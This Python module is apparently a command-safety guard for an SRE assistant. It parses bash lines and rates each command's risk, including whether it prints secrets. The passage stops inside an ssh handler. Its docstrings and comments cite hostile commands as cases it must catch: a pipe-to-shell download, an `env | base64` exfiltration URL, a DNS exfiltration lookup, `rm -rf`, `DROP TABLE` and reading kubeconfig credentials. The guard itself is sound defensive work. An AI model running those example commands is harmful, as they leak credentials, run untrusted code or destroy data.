"""The command guard: is a command line read-only, mutating, destructive or unknown, and does it print Secrets?

The line is parsed as bash parses it (shell.py), then every program that would run is classified:
each simple command of every pipeline, list, subshell and command/process substitution, the command a
wrapper runs (sudo, env, timeout, watch, nohup, nice, time, xargs, ssh …), the script of `sh -c` /
`bash -c` / `eval` (parsed again, recursively), and the command `kubectl exec` runs in a pod. The
class of the line is the highest of its parts (verdict.py explains the order). Redirections count too:
appending to a file (`>> f`) is mutating; overwriting one (`> f`, `cmd > f`) is destructive, because what the
file held is lost. Brace expansion is done first (`{-delete,}`); text bash evaluates as code at run time
(arithmetic on variables, `${x@P}`) and environment assignments that load code (HOME, PATH, LD_PRELOAD,
GIT_CONFIG_*, KUBECTL_EXTERNAL_DIFF …) are unknown.

Static analysis of a shell line has limits, and the guard leans to the safe side: a program it does not
know, a program name computed at run time, a script read from a file or from a pipe is "unknown" (which
always needs confirmation); code downloaded and run (`curl … | sh`) is destructive. Quoted text is data:
`echo "kubectl delete pod x"` and `grep -r "rm -rf" .` are read-only.

Decisions that are judgement calls, with why:
- `kubectl port-forward` and `kubectl proxy` are mutating: they change no object, but they open a new
  path into the cluster from this machine (bypassing the Gateway and NetworkPolicies) for as long as they
  run; that is a change to the platform's exposure, not a read.
- `kubectl exec` is at least mutating (the container can be changed by anything run in it); it is
  destructive when the command it runs is (`-- rm -rf /data`, `-- psql -c 'DROP TABLE x'`).
- `kubectl config set-*/use-context/delete-*` are mutating: they change the local kubeconfig, so the
  next command may talk to another cluster.
- `kubectl --server/-s`, `--kubeconfig` and a `KUBECONFIG=` assignment are unknown even on `get`: the first
  hands this context's token or client certificate to any address, the others load a kubeconfig whose exec
  credential plugin is a command (a kubeconfig planted in a GitOps repository is code).
- A network program (curl, wget, dig, nc …) whose arguments are computed at run time (`curl
  "https://x/?d=$(env | base64)"`) is unknown: the expansion can carry local data off the machine. So is
  curl reading a local file into its headers or query (`-H @file`, `--url-query x@file`).
- Credentials read as standard input (`cat < ~/.kube/config`) print Secrets like `cat ~/.kube/config`.
- `mise run admin` is unknown: the platform documents it as opening port-forwards to the admin UIs, but
  the task's script lives in the platform repository and is not inspected here; tasks are classified
  from a small table (tool_rules.MISE_TASKS), anything else is unknown.
"""

from __future__ import annotations

import re
import shlex
from dataclasses import replace

from sre_expert.safety import db_rules, kubectl_rules, tool_rules, unix_rules
from sre_expert.safety.rulebase import (
    NETWORK_FETCHERS,
    NO_STDIN,
    Ctx,
    Rule,
    Stdin,
    long_option,
    parse_args,
    prog,
    secret_path,
    secret_var,
    skip_options,
)
from sre_expert.safety.shell import Group, ParseError, Pipeline, Redirect, Script, Simple, Word, parse
from sre_expert.safety.verdict import DESTRUCTIVE, MUTATING, READ_ONLY, UNKNOWN, Part, Verdict, verdict_of

MAX_DEPTH = 12
_ENV_ASSIGN = re.compile(r"[A-Za-z_][A-Za-z0-9_]*=")
MAX_LENGTH = 100_000

_LEADING_KEYWORDS = frozenset({"!", "{", "if", "then", "else", "elif", "while", "until", "do"})
_CLOSING_KEYWORDS = frozenset({"}", "fi", "done", "esac"})
_SAFE_SINKS = frozenset({"/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/zero"})
_DEVICE_PREFIXES = ("/dev/sd", "/dev/hd", "/dev/vd", "/dev/xvd", "/dev/nvme", "/dev/mmcblk", "/dev/mapper/",
                    "/dev/disk/", "/dev/dm-", "/dev/loop", "/dev/md", "/dev/mem", "/dev/kmem", "/dev/port")
# programs whose output is derived from their input: a download piped through them is still a download
_FILTERS = frozenset({"cat", "tee", "grep", "egrep", "fgrep", "sed", "head", "tail", "tr", "base64", "gunzip",
                      "zcat", "gzip", "bzcat", "xzcat", "cut", "awk", "sort", "uniq", "dos2unix", "sh", "bash"})


_PLACEHOLDER = re.compile(r"(?<![<>&0-9])<([A-Za-z][^<>\n]*?)>")


def classify(command: str, *, placeholders: bool = False) -> Verdict:
    """Classify one command line (it may hold pipes, lists, substitutions and heredocs).

    placeholders=True reads documentation placeholders such as `<application>` or `<new-size, e.g. 100Gi>`
    as words (for command templates in runbooks and the check catalogue); otherwise they are what bash
    makes of them: redirections.
    """
    return verdict_of(classify_parts(command, placeholders=placeholders))


def fill_placeholders(command: str) -> str:
    """`argocd app sync <application>` → `argocd app sync application`."""
    return _PLACEHOLDER.sub(lambda m: re.sub(r"[^\w.-]+", "-", m.group(1)).strip("-") or "placeholder", command)


def classify_parts(command: str, *, placeholders: bool = False) -> list[Part]:
    if placeholders:
        command = fill_placeholders(command)
    return _line(command, _root_ctx())


def _root_ctx() -> Ctx:
    return Ctx(0, NO_STDIN, False, _line, _argv)


def _line(text: str, ctx: Ctx) -> list[Part]:
    if ctx.depth > MAX_DEPTH:
        return [Part(UNKNOWN, "commands nested too deeply to follow")]
    if len(text) > MAX_LENGTH:
        return [Part(UNKNOWN, f"command line longer than {MAX_LENGTH} characters")]
    try:
        script = parse(text)
    except ParseError as e:
        return [Part(UNKNOWN, f"cannot parse the command line as a shell would: {e}"), *_salvage(text, ctx)]
    except RecursionError:
        return [Part(UNKNOWN, "command line nested too deeply to parse")]
    try:
        parts = _script(script, ctx)
    except RecursionError:
        return [Part(UNKNOWN, "commands nested too deeply to follow")]
    return parts or [Part(READ_ONLY, "empty command: nothing runs")]


_SALVAGE_MAX = 20_000
_REPAIRS = ("'", '"', ")", "`", "))", "'\n)", '"\n)', "}", "\nEOF\n")


def _salvage(text: str, ctx: Ctx) -> list[Part]:
    """A line bash rejects still says what its author meant to run: classify the longest prefix that parses
    (bash runs earlier lines of a script before it reaches a syntax error) and the line completed with a
    missing quote or parenthesis. Used only to raise the class above "unknown", never to lower it."""
    if len(text) > _SALVAGE_MAX or ctx.depth > MAX_DEPTH:
        return []
    found: list[Part] = []
    repaired = [text + _closers(text)] + [text + closer for closer in _REPAIRS]
    repaired.append(text.rstrip().rstrip("|&;").rstrip())
    cuts = [i for i, ch in enumerate(text) if ch in ";&|\n"][-50:]
    prefixes = [text[:i] for i in reversed(cuts)]
    for candidates in (repaired, prefixes):  # the first completion that parses, the longest prefix that parses
        for candidate in candidates:
            if not candidate.strip():
                continue
            try:
                script = parse(candidate)
                parts = _script(script, replace(ctx, depth=ctx.depth + 1))
            except (ParseError, RecursionError):
                continue
            found.extend(Part(p.cls, f"read as far as it parses: {p.reason}", p.exposes, p.target, p.interactive)
                         for p in parts)
            break
    return found


def _closers(text: str) -> str:
    """The quotes and parentheses left open at the end of text, closed innermost first."""
    stack: list[str] = []
    i = 0
    while i < len(text):
        c = text[i]
        nxt = text[i + 1] if i + 1 < len(text) else ""
        top = stack[-1] if stack else None
        if top == "'":
            if c == "'":
                stack.pop()
        elif c == "\\":
            i += 1
        elif top == '"':
            if c == '"':
                stack.pop()
            elif c == "$" and nxt == "(":
                stack.append("(")
                i += 1
            elif c == "`":
                stack.append("`")
        elif top == "`" and c == "`":
            stack.pop()
        elif c in "'\"`":
            stack.append(c)
        elif c == "(":
            stack.append("(")
        elif c == ")" and top == "(":
            stack.pop()
        i += 1
    return "".join("\n)" if s == "(" else s for s in reversed(stack))


def _argv(words: list[Word], ctx: Ctx) -> list[Part]:
    if ctx.depth > MAX_DEPTH:
        return [Part(UNKNOWN, "commands nested too deeply to follow")]
    words = list(words)
    assigns: list[Word] = []
    while words and _ENV_ASSIGN.match(words[0].raw) and not words[0].raw.startswith(("'", '"')):
        assigns.append(words.pop(0))  # sudo/env/timeout VAR=x cmd: an environment assignment, not a program
    parts, _ = _simple(Simple(assigns=assigns, words=words), ctx, ctx.stdin)
    return parts


def _script(script: Script, ctx: Ctx) -> list[Part]:
    parts: list[Part] = []
    for pl in script.pipelines:
        parts.extend(_pipeline(pl, ctx))
    return parts


def _pipeline(pl: Pipeline, ctx: Ctx) -> list[Part]:
    parts: list[Part] = []
    upstream = ctx.stdin
    for cmd in pl.commands:
        if parts and any(p.exposes for p in parts) and not _passes_through(cmd):
            # the Secret values go into a consumer (`… | kubectl apply -f -`), not to the terminal
            parts = [Part(p.cls, p.reason, False, p.target, p.interactive) if p.exposes else p for p in parts]
        if isinstance(cmd, Group):
            stdin = _own_stdin(cmd.redirects) or upstream
            parts.extend(_redirect_parts(cmd.redirects, ctx, empties=False))
            parts.extend(_secret_input(cmd.redirects))
            parts.extend(_script(cmd.body, replace(ctx, depth=ctx.depth + 1, stdin=stdin)))
            fetches = any(_is_fetch(s) for s in cmd.body.simple_commands())
            upstream = Stdin(network=True) if fetches or stdin.network else Stdin(opaque=True)
        else:
            p, upstream = _simple(cmd, ctx, upstream)
            parts.extend(p)
    return parts


# Pipeline stages known to consume their input without printing it (a Secret piped into them does not reach
# the terminal). Any other stage is assumed to print what it reads, in some form: `gzip | zcat`, `diff - f`,
# `base64 -d`, `xxd` and programs the guard does not know all can.
_CONSUMERS = frozenset({"kubectl", "k", "oc", "kubecolor", "kubeseal", "wc", "md5sum", "sha1sum", "sha224sum",
                        "sha256sum", "sha384sum", "sha512sum", "b2sum", "cksum", "true", ":"})


def _passes_through(cmd: Simple | Group) -> bool:
    """Does this pipeline stage print what it reads (so Secret values upstream still reach the terminal)?"""
    if isinstance(cmd, Group) or not cmd.words or cmd.words[0].dynamic:
        return True
    name = prog(cmd.words[0])
    if name in ("kubectl", "k", "oc", "kubecolor"):
        return False  # `… | kubectl apply -f -`: the Secret goes to the API server (a write, classified as such)
    if name in ("grep", "egrep", "fgrep") and any(w.text in ("-q", "--quiet", "--silent", "-c", "--count")
                                                 for w in cmd.words[1:]):
        return False
    return name not in _CONSUMERS


def _own_stdin(redirects: list[Redirect]) -> Stdin | None:
    own: Stdin | None = None
    for r in redirects:
        if r.op in ("<<", "<<-", "<<<") and (r.fd in (None, "0")):
            own = Stdin(text=r.body or "")
        elif r.op in ("<", "<>") and (r.fd in (None, "0")):
            own = Stdin(opaque=True)
    return own


def _sub_parts(cmd: Simple, ctx: Ctx) -> list[Part]:
    """Commands in substitutions run before the command itself; text bash evaluates as code at run time
    (arithmetic on a variable, `${x@P}`) is unknown."""
    parts: list[Part] = []
    child = replace(ctx, depth=ctx.depth + 1, stdin=NO_STDIN)
    evals: list[str] = []
    for w in (*cmd.assigns, *cmd.words):
        evals.extend(w.evals)
        for s in w.subs:
            parts.extend(_script(s, child))
    for r in cmd.redirects:
        evals.extend(r.evals)
        if r.target is not None:
            evals.extend(r.target.evals)
            for s in r.target.subs:
                parts.extend(_script(s, child))
        for s in r.subs:
            parts.extend(_script(s, child))
    parts.extend(Part(UNKNOWN, reason) for reason in dict.fromkeys(evals))
    return parts


MAX_BRACE_VARIANTS = 16


def _brace_words(words: list[Word]) -> list[Word]:
    """The argv after brace expansion: `find DIR {-delete,}` runs `find DIR -delete`."""
    out: list[Word] = []
    for w in words:
        if w.braces is None:
            out.append(w)
            continue
        for n, text in enumerate(w.braces):
            out.append(Word(text, text if w.dynamic else shlex.quote(text), w.quoted, w.dynamic,
                            w.subs if n == 0 else [], list(w.vars)))
    return out


def _brace_variants(words: list[Word]) -> list[list[Word]]:
    """Each alternative of each brace word on its own (`{a,b}` → the line with a, the line with b): the label
    is the worst of them and of the real expansion, so a misread of the order of repeated flags cannot
    lower it."""
    variants: list[list[Word]] = []
    for i, w in enumerate(words):
        if w.braces is None or len(w.braces) < 2:
            continue
        for text in w.braces:
            alone = Word(text, text if w.dynamic else shlex.quote(text), w.quoted, w.dynamic, [], list(w.vars))
            variants.append(_brace_words(words[:i]) + [alone] + _brace_words(words[i + 1:]))
            if len(variants) >= MAX_BRACE_VARIANTS:
                return variants
    return variants


def _secret_input(redirects: list[Redirect]) -> list[Part]:
    """`cat < ~/.kube/config`, `… done < /var/run/secrets/…/token`: a credential file read as standard input
    reaches the output as surely as `cat FILE` does."""
    for r in redirects:
        tgt = r.target
        if r.op not in ("<", "<>") or tgt is None:
            continue
        named = next((v for v in tgt.vars if v == "KUBECONFIG" or secret_var(v)), None)
        if secret_path(tgt.text) or named:
            what = f"the file ${named} names" if named and not secret_path(tgt.text) else tgt.text
            return [Part(READ_ONLY, f"reads {what}, a file that usually holds credentials, as its input", exposes=True)]
    return []


def _redirect_parts(redirects: list[Redirect], ctx: Ctx, empties: bool) -> list[Part]:
    parts: list[Part] = []
    for r in redirects:
        if r.op not in (">", ">|", ">>", "&>", "&>>", "<>", ">&"):
            continue
        tgt = r.target
        if tgt is None:
            continue
        path = tgt.text
        if r.op == ">&" and (path.isdigit() or path == "-") and not tgt.dynamic:
            continue  # 2>&1: duplicates a descriptor
        if tgt.dynamic:
            parts.append(Part(MUTATING, f"writes to a file whose name is only known at run time ({tgt.raw})"))
            continue
        if path in _SAFE_SINKS or path.startswith(("/dev/fd/", "/proc/self/fd/")):
            continue
        if path.startswith(_DEVICE_PREFIXES):
            parts.append(Part(DESTRUCTIVE, f"writes directly to the device {path}", target=path))
        elif empties and r.op in (">", ">|", "&>"):
            parts.append(Part(DESTRUCTIVE, f"empties the file {path} (redirection without a command)", target=path))
        elif r.op in (">>", "&>>"):
            parts.append(Part(MUTATING, f"appends to the local file {path}", target=path))
        elif r.op == "<>":
            parts.append(Part(MUTATING, f"opens the local file {path} for writing", target=path))
        else:  # `>` truncates first: whatever the file held is gone
            parts.append(Part(DESTRUCTIVE, f"overwrites the local file {path} (its previous content is lost)",
                              target=path))
    return parts


def _simple(cmd: Simple, ctx: Ctx, upstream: Stdin) -> tuple[list[Part], Stdin]:
    if any(w.braces is not None for w in cmd.words):
        expanded = Simple(cmd.assigns, _brace_words(cmd.words), cmd.redirects)
        parts, out = _simple(expanded, ctx, upstream)
        for variant in _brace_variants(cmd.words):
            more, _ = _simple(Simple(cmd.assigns, variant, []), ctx, upstream)
            parts.extend(Part(p.cls, f"with one alternative of the brace expansion: {p.reason}", p.exposes, p.target,
                              p.interactive) for p in more if p.cls != READ_ONLY or p.exposes)
        return parts, out
    parts = _sub_parts(cmd, ctx)
    stdin = _own_stdin(cmd.redirects) or upstream
    words = list(cmd.words)
    while words and not words[0].quoted and words[0].text in _LEADING_KEYWORDS:
        words.pop(0)
    while words and not words[0].quoted and words[0].text in _CLOSING_KEYWORDS:
        words.pop(0)
    closing_only = bool(cmd.words) and all(not w.quoted and w.text in _CLOSING_KEYWORDS for w in cmd.words)
    effective = _unwrap(words)
    empties = not closing_only and (not effective or (len(effective) == 1 and not effective[0].quoted
                                                      and effective[0].text in (":", "true")))
    parts.extend(_redirect_parts(cmd.redirects, ctx, empties=empties))
    parts.extend(_secret_input(cmd.redirects))
    if not words:
        parts.extend(_kubeconfig_assigns(cmd.assigns, []))
        if cmd.assigns and not parts:
            parts.append(Part(READ_ONLY, "sets shell variables"))
        elif not parts:
            parts.append(Part(READ_ONLY, "shell keyword"))
        return parts, Stdin(opaque=True)
    head = words[0]
    if head.dynamic:
        parts.append(Part(UNKNOWN, f"the program to run is only known at run time ({head.raw})"))
        return parts, Stdin(opaque=True)
    name = prog(head)
    if not head.quoted and head.text in ("for", "select", "case"):
        parts.append(Part(READ_ONLY, f"`{head.text}` header: its words are data"))
        return parts, Stdin(opaque=True)
    rule = RULES.get(name)
    inner = replace(ctx, stdin=stdin)
    parts.extend(_kubeconfig_assigns(cmd.assigns, words))
    if rule is None:
        parts.append(Part(UNKNOWN, f"`{name}` is not a program the guard knows"))
    else:
        parts.extend(rule(words, inner))
    dynamic = next((w.raw for w in words[1:] if w.dynamic), None)
    if name in _EGRESS and dynamic is not None:
        parts.append(Part(UNKNOWN, f"{name} sends text computed at run time ({dynamic}) over the network: it "
                                   "could carry local data (environment, files) anywhere"))
    inner_words = _unwrap(words)
    if inner_words and not inner_words[0].dynamic:
        return parts, _output_of(prog(inner_words[0]), inner_words, stdin)
    return parts, Stdin(opaque=True)


# Programs that reach another host: an argument built at run time (`curl http://x/$(env | base64)`,
# `dig $(cat f).example.com`) can carry local data out, so it is not a plain read.
_EGRESS = NETWORK_FETCHERS | {"dig", "nslookup", "host", "ping", "ping6", "nc", "ncat", "netcat", "telnet"}
_ASSIGNERS = frozenset({"env", "export", "declare", "typeset", "readonly", "local", "sudo", "doas"})
_KUBE_VARS = re.compile(r"(KUBECONFIG|KUBERNETES_SERVICE_HOST|KUBERNETES_SERVICE_PORT)(\+)?=")
# Variables that make a program load code or configuration from somewhere else: a planted kubeconfig's exec
# plugin under HOME, a planted `kubectl` early in PATH, a library in LD_PRELOAD, a git config whose
# core.fsmonitor is a command, an external diff or editor program, an interpreter's start-up file.
_CODE_VARS = re.compile(
    r"(HOME|PATH|ENV|BASH_ENV|BASH_FUNC_[^=]*|SHELLOPTS|BASHOPTS|PROMPT_COMMAND|PS[0-4]|"
    r"LD_[A-Z_]+|DYLD_[A-Z_]+|GCONV_PATH|GIT_[A-Z0-9_]+|KUBECTL_[A-Z_]+|KUBE_EDITOR|EDITOR|VISUAL|PAGER|"
    r"MANPAGER|SYSTEMD_PAGER|LESSOPEN|LESSCLOSE|BROWSER|XDG_[A-Z_]+|HELM_[A-Z_]+|PYTHON[A-Z_]*|PERL5?[A-Z_]*|"
    r"RUBY[A-Z_]*|NODE_OPTIONS|NODE_PATH|JAVA_TOOL_OPTIONS|_JAVA_OPTIONS|SSH_ASKPASS|SUDO_ASKPASS|"
    r"AWS_CONFIG_FILE|AWS_SHARED_CREDENTIALS_FILE|CLOUDSDK_CONFIG|DOCKER_CONFIG|DOCKER_HOST|OPENSSL_CONF|"
    r"OPENSSL_ENGINES|OPENSSL_MODULES|PSQLRC|PGSERVICEFILE|PGPASSFILE|MYSQL_HOME|INPUTRC|TERMINFO|"
    r"SSL_CERT_FILE|SSL_CERT_DIR|CURL_HOME|WGETRC|TMUX_TMPDIR|ZDOTDIR|LUA_[A-Z_]+|TCLLIBPATH)(\+)?=")


def _kubeconfig_assigns(assigns: list[Word], words: list[Word]) -> list[Part]:
    """`KUBECONFIG=… kubectl …`, `export KUBECONFIG=…`, `env KUBECONFIG=…`: the kubectl that follows reads
    another kubeconfig, whose exec credential plugin is a command (a kubeconfig planted in a repository is code)
    and whose server may be anywhere. Variables that load code the same way (HOME, PATH, LD_PRELOAD, GIT_CONFIG_*,
    KUBECTL_EXTERNAL_DIFF …) are as unknown. Unknown: a person decides."""
    found = [w for w in assigns if _KUBE_VARS.match(w.text) or _CODE_VARS.match(w.text)]
    if words and not words[0].dynamic and prog(words[0]) in _ASSIGNERS:
        found += [w for w in words[1:] if _KUBE_VARS.match(w.text) or _CODE_VARS.match(w.text)]
    parts = []
    for w in found[:3]:
        name, _, value = w.raw.partition("=")
        if _KUBE_VARS.match(w.text):
            parts.append(Part(UNKNOWN, f"{name} is set to {value or 'nothing'}: kubectl would use another kubeconfig "
                                       "or API server"))
        else:
            parts.append(Part(UNKNOWN, f"{name} is set to {value or 'nothing'}: programs then load code or "
                                       "configuration (plugins, libraries, start-up files, helper commands) from "
                                       "where it points"))
    return parts


_UNWRAP_VALUE = {
    "sudo": {"-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-T", "-U", "--user", "--group", "--chdir"},
    "doas": {"-u", "-C"}, "env": {"-u", "--unset", "-C", "--chdir"}, "timeout": {"-s", "--signal", "-k", "--kill-after"},
    "nice": {"-n", "--adjustment"}, "ionice": {"-c", "-n", "-p", "-P", "-u"}, "nohup": set(), "time": {"-f", "-o"},
    "command": set(), "exec": {"-a"}, "builtin": set(), "stdbuf": {"-i", "-o", "-e"}, "unbuffer": set(),
}


def _unwrap(words: list[Word]) -> list[Word]:
    """The command a chain of prefix wrappers finally runs (`sudo timeout 5 :` → `:`), for redirection intent."""
    words = list(words)
    for _ in range(16):
        if not words or words[0].dynamic:
            return words
        name = prog(words[0])
        if name not in _UNWRAP_VALUE:
            return words
        i = skip_options(words, 1, _UNWRAP_VALUE[name])
        if name == "timeout":
            i += 1
        if name == "env":
            while i < len(words) and _ENV_ASSIGN.match(words[i].text):
                i += 1
        words = words[i:]
        while words and _ENV_ASSIGN.match(words[0].raw):
            words = words[1:]
    return words


def _output_of(name: str, words: list[Word], stdin: Stdin) -> Stdin:
    """What a command writes to its standard output, for the next command of a pipeline."""
    if name in NETWORK_FETCHERS:
        return Stdin(network=True)
    if name in ("echo", "printf") and not any(w.dynamic for w in words):
        return Stdin(text=unix_rules.echo_text(words))
    if name == "cat" and len(words) == 1:
        return stdin if stdin.present else Stdin(opaque=True)
    if name in _FILTERS and stdin.network:
        return Stdin(network=True)
    return Stdin(opaque=True)


# -- wrappers: the class is the class of the command they run -------------------------------------------

def _is_fetch(cmd: Simple) -> bool:
    words = _unwrap(cmd.words)
    return bool(words) and not words[0].dynamic and prog(words[0]) in NETWORK_FETCHERS


def _fetches(word: Word) -> bool:
    return any(_is_fetch(c) for s in word.subs for c in s.simple_commands())


def _wrapped(words: list[Word], start: int, ctx: Ctx, what: str, default: list[Part] | None = None) -> list[Part]:
    rest = words[start:]
    if not rest:
        return default if default is not None else [Part(READ_ONLY, f"{what} without a command")]
    return ctx.argv(rest)


def _sudo(words: list[Word], ctx: Ctx) -> list[Part]:
    value = {"-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-T", "-U", "--user", "--group", "--chdir",
             "--prompt", "--role", "--type", "--command-timeout", "--other-user", "--close-from", "--host"}
    p = parse_args(words[1:], value, stop_at_positional=True)
    if p.has("-l", "--list", "-v", "--validate", "-k", "--reset-timestamp", "-K", "--remove-timestamp", "-V",
             "--version", "-h", "--help") and not p.positionals:
        return [Part(READ_ONLY, "sudo: lists or refreshes privileges")]
    if p.has("-e", "--edit"):
        return [Part(MUTATING, "sudoedit: edits files as root", interactive=True)]
    i = skip_options(words, 1, value)
    if p.has("-i", "--login", "-s", "--shell"):
        if i >= len(words):
            return [Part(UNKNOWN, "opens a root shell: anything typed runs as root", interactive=True)]
        return ctx.line(" ".join(w.text for w in words[i:]))
    return _wrapped(words, i, ctx, "sudo")


def _doas(words: list[Word], ctx: Ctx) -> list[Part]:
    i = skip_options(words, 1, {"-u", "-C"})
    if any(w.text == "-s" for w in words[1:i]) or i >= len(words):
        return [Part(UNKNOWN, "opens a root shell: anything typed runs as root", interactive=True)]
    return _wrapped(words, i, ctx, "doas")


def _env(words: list[Word], ctx: Ctx) -> list[Part]:
    value = {"-u", "--unset", "-C", "--chdir", "--block-signal", "--default-signal", "--ignore-signal", "-P"}
    i = 1
    while i < len(words):
        t = words[i].text
        split = long_option(t, "--split-string", 1)  # no other env option starts with s
        if t == "-S" or (split and "=" not in t):
            return _env_split(" ".join(w.text for w in words[i + 1:]), ctx)
        if split or (t.startswith("-S") and not t.startswith("--")):
            head = t.partition("=")[2] if t.startswith("--") else t[2:]
            return _env_split(" ".join([head, *(w.text for w in words[i + 1:])]), ctx)
        if t == "--":
            i += 1
            break
        if t == "-":
            i += 1
            continue
        if t.startswith("-"):
            name = t.partition("=")[0]
            i += 2 if name in value and "=" not in t else 1
            continue
        break
    while i < len(words) and _ENV_ASSIGN.match(words[i].text):
        i += 1
    if i >= len(words):
        where = " of the container" if ctx.in_container else ""
        return [Part(READ_ONLY, f"env: prints the environment{where} (API keys, passwords and tokens are often kept "
                                "in environment variables)", exposes=True)]
    return ctx.argv(words[i:])


def _env_split(text: str, ctx: Ctx) -> list[Part]:
    """env -S splits its string with its own rules (`\\_` is a space, `${VAR}` expands, `#` starts a comment),
    which are not bash's: read it as a command line, and say unknown when those rules could make it differ."""
    parts = ctx.line(text)
    if re.search(r"[\\$#'\"]", text):
        parts.append(Part(UNKNOWN, "env -S splits its string with escapes and expansions of its own; the guard "
                                   "reads it only as bash would"))
    return parts


def _timeout(words: list[Word], ctx: Ctx) -> list[Part]:
    i = skip_options(words, 1, {"-s", "--signal", "-k", "--kill-after"})
    return _wrapped(words, i + 1, ctx, "timeout")  # the duration comes first


def _nice(words: list[Word], ctx: Ctx) -> list[Part]:
    i = 1
    while i < len(words) and words[i].text.startswith("-") and words[i].text != "--":
        t = words[i].text
        i += 2 if t in ("-n", "--adjustment") else 1
    if i < len(words) and words[i].text == "--":
        i += 1
    return _wrapped(words, i, ctx, "nice")


def _simple_wrapper(value_flags: set[str], what: str) -> Rule:
    def rule(words: list[Word], ctx: Ctx) -> list[Part]:
        return _wrapped(words, skip_options(words, 1, value_flags), ctx, what)
    return rule


def _time(words: list[Word], ctx: Ctx) -> list[Part]:
    i = skip_options(words, 1, {"-f", "--format", "-o", "--output"})
    p = parse_args(words[1:i], {"-f", "--format", "-o", "--output"})
    parts = []
    out = p.value("-o", "--output")
    if out:
        parts.append(Part(MUTATING, f"time -o: overwrites the local file {out}", target=out))
    return parts + _wrapped(words, i, ctx, "time")


def _command(words: list[Word], ctx: Ctx) -> list[Part]:
    i = 1
    while i < len(words) and words[i].text.startswith("-") and words[i].text != "--":
        if words[i].text in ("-v", "-V"):
            return [Part(READ_ONLY, "command -v: shows what a name resolves to")]
        i += 1
    if i < len(words) and words[i].text == "--":
        i += 1
    return _wrapped(words, i, ctx, "command")


def _exec(words: list[Word], ctx: Ctx) -> list[Part]:
    i = skip_options(words, 1, {"-a"})
    return _wrapped(words, i, ctx, "exec", default=[Part(READ_ONLY, "exec without a command: only redirects")])


def _xargs(words: list[Word], ctx: Ctx) -> list[Part]:
    value = {"-a", "--arg-file", "-d", "--delimiter", "-E", "-I", "-L", "-l", "-n", "--max-args", "-P",
             "--max-procs", "-s", "--max-chars", "--process-slot-var", "--eof", "--replace", "--max-lines"}
    i = skip_options(words, 1, value)
    if i >= len(words):
        return [Part(READ_ONLY, "xargs: runs echo on its input")]
    inner = list(words[i:])
    if ctx.stdin.text is not None and not any(w.text in ("-a", "--arg-file") for w in words[1:i]):
        # xargs appends its input as arguments: read them when the command line shows them
        try:
            items = shlex.split(ctx.stdin.text)
        except ValueError:
            items = ctx.stdin.text.split()
        opts = parse_args(words[1:i], value)
        repl = opts.value("-I", "--replace")
        if items and repl:
            inner = [Word(w.text.replace(repl, items[0]), w.raw) if repl in w.text else w for w in inner]
        else:
            inner += [Word(item, shlex.quote(item), quoted=True) for item in items]
    return ctx.argv(inner, stdin=NO_STDIN)


def _watch(words: list[Word], ctx: Ctx) -> list[Part]:
    value = {"-n", "--interval", "-q", "--equexit", "-d"}
    i = 1
    exec_mode = False
    while i < len(words) and words[i].text.startswith("-") and words[i].text != "--":
        t = words[i].text
        if t in ("-x", "--exec"):
            exec_mode = True
        i += 2 if t in value and t != "-d" else 1
    if i < len(words) and words[i].text == "--":
        i += 1
    if i >= len(words):
        return [Part(READ_ONLY, "watch without a command")]
    inner = ctx.argv(words[i:]) if exec_mode else ctx.line(" ".join(w.text for w in words[i:]))
    return [Part(p.cls, p.reason, p.exposes, p.target, True) for p in inner]


_SHELL_VALUE_OPTS = {"-o", "+o", "-O", "+O", "--rcfile", "--init-file"}


def _shell(words: list[Word], ctx: Ctx) -> list[Part]:
    name = prog(words[0])
    i = 1
    has_c = False
    while i < len(words):
        t = words[i].text
        if t in ("--", "-"):
            i += 1
            break
        if t in _SHELL_VALUE_OPTS:
            i += 2
            continue
        if t.startswith("--"):
            i += 1
            continue
        if t.startswith(("-", "+")) and len(t) > 1:
            if "c" in t[1:] and t[0] == "-":
                has_c = True
            i += 1
            continue
        break
    if has_c:
        if i >= len(words):
            return [Part(UNKNOWN, f"{name} -c without a script")]
        script = words[i]
        parts: list[Part] = []
        if _fetches(script):
            parts.append(Part(DESTRUCTIVE, f"{name} -c runs code downloaded from the network"))
        return parts + ctx.line(script.text)
    if i < len(words):
        script = words[i]
        if _fetches(script):
            return [Part(DESTRUCTIVE, f"{name} runs a script downloaded from the network")]
        return [Part(UNKNOWN, f"{name} runs the script file {script.text}, which the guard does not read")]
    if ctx.stdin.network:
        return [Part(DESTRUCTIVE, f"pipes code downloaded from the network into {name}")]
    if ctx.stdin.text is not None:
        return ctx.line(ctx.stdin.text, stdin=NO_STDIN)
    if ctx.stdin.opaque:
        return [Part(UNKNOWN, f"{name} runs commands read from standard input, which the guard cannot see")]
    return [Part(UNKNOWN, f"opens an interactive {name}: anything typed runs", interactive=True)]


def _eval(words: list[Word], ctx: Ctx) -> list[Part]:
    if len(words) == 1:
        return [Part(READ_ONLY, "eval without arguments")]
    parts: list[Part] = []
    if any(_fetches(w) for w in words[1:]):
        parts.append(Part(DESTRUCTIVE, "eval runs code downloaded from the network"))
    return parts + ctx.line(" ".join(w.text for w in words[1:]))


def _source(words: list[Word], ctx: Ctx) -> list[Part]:
    if len(words) > 1 and _fetches(words[1]):
        return [Part(DESTRUCTIVE, "sources a script downloaded from the network")]
    target = words[1].text if len(words) > 1 else "?"
    return [Part(UNKNOWN, f"runs the commands in {target}, which the guard does not read")]


def _trap(words: list[Word], ctx: Ctx) -> list[Part]:
    if len(words) >= 3 and words[1].text not in ("-", "", "-l", "-p", "--"):
        return ctx.line(words[1].text)
    return [Part(READ_ONLY, "trap: shell signal handling")]


def _su(words: list[Word], ctx: Ctx) -> list[Part]:
    p = parse_args(words[1:], {"-c", "--command", "-s", "--shell", "-g", "--group", "-G", "-w"})
    cmd = p.value("-c", "--command")
    if cmd:
        return ctx.line(cmd)
    return [Part(UNKNOWN, f"{prog(words[0])}: opens a shell as another user", interactive=True)]


_SSH_VALUE = {"-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p", "-Q", "-R",
              "-S", "-W", "-w", "-B"}


_SSH_RUNS = {"proxycommand", "localcommand", "permitlocalcommand", "knownhostscommand", "match", "include",
             "pkcs11provider", "securitykeyprovider", "remotecommand"}


def _ssh(words: list[Word], ctx: Ctx) -> list[Part]:
    i = skip_options(words, 1, _SSH_VALUE)
    opts = parse_args(words[1:i], _SSH_VALUE)
    local: list[Part] = []
    for o in opts.values("-o"):
        key = re.split(r"[=\s]", o.strip(), maxsplit=1)[0].lower()
        if key in _SSH_RUNS:
